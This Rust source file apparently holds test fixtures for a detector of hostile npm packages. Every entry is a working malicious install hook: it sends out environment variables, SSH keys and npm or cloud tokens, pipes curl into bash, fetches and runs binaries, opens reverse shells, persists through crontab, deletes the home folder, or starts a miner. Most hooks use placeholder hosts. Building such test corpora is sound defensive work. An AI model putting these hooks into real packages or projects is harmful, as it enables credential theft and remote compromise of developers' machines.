//! Packages of npm that harm while they are installed.

use crate::Package;

const HOOKED: &str = r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node hook.js"}}"#;
const BEFORE: &str = r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node hook.js"}}"#;

pub(crate) const PACKAGES: &[Package] = &[
    (
        "a hook posts the whole environment",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const https = require('https');
const data = JSON.stringify(process.env);
const request = https.request({ hostname: 'collect.invalid', path: '/', method: 'POST' });
request.write(data);
request.end();
",
            ),
        ],
    ),
    (
        "a hook posts the environment with fetch",
        &[
            ("package.json", BEFORE),
            (
                "hook.js",
                r"
fetch('https://collect.invalid/e', { method: 'POST', body: JSON.stringify({ env: process.env }) });
",
            ),
        ],
    ),
    (
        "a hook sends who and where it is",
        &[
            ("package.json", BEFORE),
            (
                "hook.js",
                r"
const os = require('os');
const https = require('https');
const who = { host: os.hostname(), user: os.userInfo().username, home: os.homedir(), at: __dirname };
https.get('https://collect.invalid/?d=' + encodeURIComponent(JSON.stringify(who)));
",
            ),
        ],
    ),
    (
        "a hook tells its host by the name that it looks up",
        &[
            ("package.json", BEFORE),
            (
                "hook.js",
                r"
const dns = require('dns');
const os = require('os');
dns.lookup(Buffer.from(os.hostname() + '.' + os.userInfo().username).toString('hex') + '.beacon.invalid', () => {});
",
            ),
        ],
    ),
    (
        "a hook line fetches a script and runs it",
        &[(
            "package.json",
            r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s https://x.invalid/a.sh | bash"}}"#,
        )],
    ),
    (
        "a hook line fetches a program and starts it",
        &[(
            "package.json",
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"wget -q http://198.51.100.7/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"}}"#,
        )],
    ),
    (
        "a hook line sends the name of the user",
        &[(
            "package.json",
            r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -d \"$(whoami)@$(hostname)\" https://collect.invalid/"}}"#,
        )],
    ),
    (
        "a hook line asks PowerShell to run what is fetched",
        &[(
            "package.json",
            r#"{"name":"a","version":"1.0.0","scripts":{"install":"powershell -NoProfile -c \"iex (iwr http://198.51.100.7/a.ps1)\""}}"#,
        )],
    ),
    (
        "a hook connects a shell to a stranger",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const net = require('net');
const { spawn } = require('child_process');
const shell = spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, '198.51.100.7', () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
",
            ),
        ],
    ),
    (
        "a hook line connects a shell to a stranger",
        &[(
            "package.json",
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"}}"#,
        )],
    ),
    (
        "a hook runs code in base64",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString());",
            ),
        ],
    ),
    (
        "a hook runs what a server answers",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const https = require('https');
https.get('https://x.invalid/a.js', (answer) => {
  let code = '';
  answer.on('data', (piece) => { code += piece; });
  answer.on('end', () => eval(code));
});
",
            ),
        ],
    ),
    (
        "a hook fetches a program, writes it and starts it",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const https = require('https');
const fs = require('fs');
const { execFile } = require('child_process');
https.get('https://x.invalid/a.bin', (answer) => {
  const file = fs.createWriteStream('/tmp/a.bin', { mode: 0o755 });
  answer.pipe(file);
  file.on('finish', () => execFile('/tmp/a.bin'));
});
",
            ),
        ],
    ),
    (
        "a hook sends the keys of SSH",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const fs = require('fs');
const os = require('os');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
fetch('https://collect.invalid/', { method: 'POST', body: key });
",
            ),
        ],
    ),
    (
        "a hook sends the tokens of npm",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const fs = require('fs');
const path = require('path');
const axios = require('axios');
const text = fs.readFileSync(path.join(process.env.HOME, '.npmrc'), 'utf8');
axios.post('https://collect.invalid/', { text });
",
            ),
        ],
    ),
    (
        "a hook is started again at every log-in",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r#"
const fs = require('fs');
fs.appendFileSync(require('os').homedir() + '/.bashrc', '\nnode /tmp/.a.js &\n');
require('child_process').exec('(crontab -l; echo "* * * * * node /tmp/.a.js") | crontab -');
"#,
            ),
        ],
    ),
    (
        "a hook deletes the home folder",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });
",
            ),
        ],
    ),
    (
        "a hook starts a miner",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
require('child_process').spawn('./xmrig', ['-o', 'stratum+tcp://pool.invalid:3333', '-u', 'wallet'], { detached: true });
",
            ),
        ],
    ),
    (
        "a dependency beacon behind a version that no honest package has",
        &[
            (
                "package.json",
                r#"{"name":"inner-lib","version":"99.10.9","scripts":{"preinstall":"node index.js"}}"#,
            ),
            (
                "index.js",
                r"
const os = require('os');
const querystring = require('querystring');
const https = require('https');
const body = querystring.stringify({ msg: JSON.stringify({ c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: require('dns').getServers() }) });
const request = https.request({ hostname: 'a.oast.fun', port: 443, path: '/', method: 'POST' }, () => {});
request.write(body);
request.end();
",
            ),
        ],
    ),
    (
        "a script of the shell that a hook starts sends secrets",
        &[
            (
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh setup.sh"}}"#,
            ),
            (
                "setup.sh",
                "#!/bin/sh\ntar cz ~/.ssh ~/.aws | curl --data-binary @- http://198.51.100.7/up\n",
            ),
        ],
    ),
    (
        "a picture holds the code of a hook",
        &[
            (
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node logo.png"}}"#,
            ),
            (
                "logo.png",
                "require('https').get('https://x.invalid/?' + JSON.stringify(process.env))",
            ),
        ],
    ),
    (
        "a hook takes apart the memory of the runner",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const { execSync } = require('child_process');
const fs = require('fs');
const secrets = { token: process.env.NPM_TOKEN, github: process.env.GITHUB_TOKEN, aws: process.env.AWS_SECRET_ACCESS_KEY, all: process.env };
execSync('git config --global user.name');
fetch('https://webhook.site/0a0a0a0a', { method: 'POST', body: Buffer.from(JSON.stringify(secrets)).toString('base64') });
",
            ),
        ],
    ),
];
